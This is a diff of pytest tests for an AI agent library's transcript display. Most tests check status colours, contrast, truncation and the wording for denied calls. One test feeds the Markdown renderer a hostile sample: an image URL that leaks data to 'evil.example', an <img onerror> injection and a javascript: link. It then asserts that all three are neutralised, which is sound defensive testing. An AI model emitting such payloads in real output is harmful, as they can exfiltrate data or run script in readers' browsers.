@@ -57,9 +57,44 @@ def test_tool_block_statuses(status, extra, shown):
     block = display.tool_block("t", {"a": 1}, status=status, duration_s=1.5, **extra)
     (summary,) = _summaries(block)
     assert shown in summary
-    assert ("1.5 s" in summary) == (status not in ("running", "awaiting approval"))
+    assert ("1.5 s" in summary) == (status in ("ok", "error"))  # a denied or unfinished call has no run time
     if status == "denied":
         assert "reason: not today" in block
+
+
+def test_status_colours_follow_the_theme_and_the_status_never_wraps():
+    block = display.tool_block("t", {"a": 1}, status="error")
+    status = re.search(r'→ <span style="([^"]*)">error</span>', block).group(1)
+    # the theme's own colour where there is one (JupyterLab, VS Code), a mid-tone fallback elsewhere
+    assert "color:var(--jp-error-color1,var(--vscode-errorForeground,#" in status
+    assert "white-space:nowrap" in status
+
+
+def _contrast(a: str, b: str) -> float:
+    def luminance(colour):
+        channels = [int(colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
+        r, g, b = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
+        return 0.2126 * r + 0.7152 * g + 0.0722 * b
+
+    high, low = sorted([luminance(a), luminance(b)], reverse=True)
+    return (high + 0.05) / (low + 0.05)
+
+
+@pytest.mark.parametrize("status", ["ok", "error", "denied", "running", "awaiting approval"])
+def test_fallback_status_colours_read_on_light_and_dark_backgrounds(status):
+    (fallback,) = re.findall(r"#[0-9a-fA-F]{6}", display._STATUS_COLOURS[status])
+    for background in ("#ffffff", "#111111", "#1e1e1e"):  # white, JupyterLab dark, VS Code dark
+        assert _contrast(fallback, background) >= 3.8, (status, fallback, background)
+
+
+def test_long_arguments_end_in_an_ellipsis_and_short_durations_are_not_zero():
+    block = display.tool_block("t", {"url": "https://example.com/" + "a" * 500}, status="ok", duration_s=0.0001)
+    call = re.search(r"<code style=\"([^\"]*)\">", block).group(1)
+    assert "text-overflow:ellipsis" in call and "white-space:nowrap" in call
+    (summary,) = _summaries(block)
+    assert len(summary) < 100 and summary.endswith("· &lt;1 ms")
+    assert "a" * 500 in block  # in full inside, where it wraps
+    assert "overflow-wrap:anywhere" in re.search(r'<pre style="([^"]*)"', block).group(1)
 
 
 def test_long_results_are_capped_in_the_display_only():
@@ -99,9 +134,20 @@ def test_result_html_is_a_static_transcript_with_expandable_tool_calls():
     assert [s.split("→ ")[1].split(" ")[0] for s in summaries] == ["ok", "error", "denied"]
     assert "reason: not that one" in html
     assert "ERROR: boom happened" in html
-    assert "All **done**" in html and "Let me try." in html
+    assert "All <strong>done</strong>" in html and "Let me try." in html  # answers as Markdown, as live
     assert "system prompt" in html  # collapsed, first
     assert "cost " in html and "2 requests" in html
+
+
+def test_transcript_answers_render_markdown_without_images_or_raw_html():
+    answer = ("- **a**\n- see ![x](https://evil.example/?leak=1) <img src=y onerror=z> [l](javascript:alert(1))"
+              "\n\n```\nif a<b: pass\n```")
+    result = _agent(Scripted([answer])).run("go")
+    html = result._repr_html_()
+    assert "<li><strong>a</strong></li>" in html
+    assert "<img" not in html and "javascript" not in html.lower()
+    assert '!<a href="https://evil.example/?leak=1">x</a>' in html  # a link nobody fetches until clicked
+    assert "if a&lt;b: pass" in html
 
 
 def test_result_html_says_when_a_run_stopped_early():
@@ -126,7 +172,8 @@ def test_result_text_reads_well_in_a_terminal():
     lines = text.splitlines()
     assert lines[0] == "All **done**"
     assert lines[1].startswith("  · echo(text=") and "→ ok" in lines[1]
-    assert "→ denied: not that one" in lines[3]
+    assert "→ error: boom happened (" in lines[2]  # why it failed, on the same line
+    assert lines[3].endswith("→ denied: not that one")  # no run time: a denied call never ran
     assert lines[-1].startswith("  2 requests")
 
 
@@ -199,9 +246,10 @@ def test_live_view_shows_a_running_tool_and_an_approval_wait():
         view.finish(result)
 
     asyncio.run(main())
-    assert "→ <span style=\"color:#ef6c00;font-weight:600\">awaiting approval</span>" in seen[0]
+    assert re.search(r'→ <span style="color:var\(--jp-warn-color0[^"]*">awaiting approval</span>', seen[0])
     final = recorder.handles[0].bundles[-1]["text/html"]
-    assert ">denied</span>" in final and "denied: because" in final
+    assert ">denied</span>" in final and "reason: because" in final
+    assert "denied: because" not in final  # the reason is said once, not again in a note
 
 
 def test_live_view_throttles_a_long_stream():
@@ -250,6 +298,19 @@ def test_text_view_prints_the_stream_tool_lines_and_usage():
     assert lines[1].startswith("  · echo(text=\"a\") → ok (")
     assert lines[2] == "Done."
     assert lines[3].startswith("  2 requests")
+
+
+def test_text_view_says_why_a_call_failed_or_was_denied():
+    out = io.StringIO()
+    view = display.TextView(stream=False, file=out)
+    deny = lambda r: Deny("not that one") if r.args.get("text") == "no" else True  # noqa: E731
+    result = _agent(Scripted([[("echo", {"text": "boom"}), ("echo", {"text": "no"})], "Done."]),
+                    on_event=view, approve_fn=deny).run("go")
+    view.finish(result)
+    lines = out.getvalue().splitlines()
+    assert lines[0].startswith('  · echo(text="boom") → error: boom happened (')
+    assert lines[1] == '  · echo(text="no") → denied: not that one'
+    assert lines[2] == "Done." and lines[3].startswith("  2 requests")
 
 
 def test_answers_render_without_remote_images_or_raw_html():
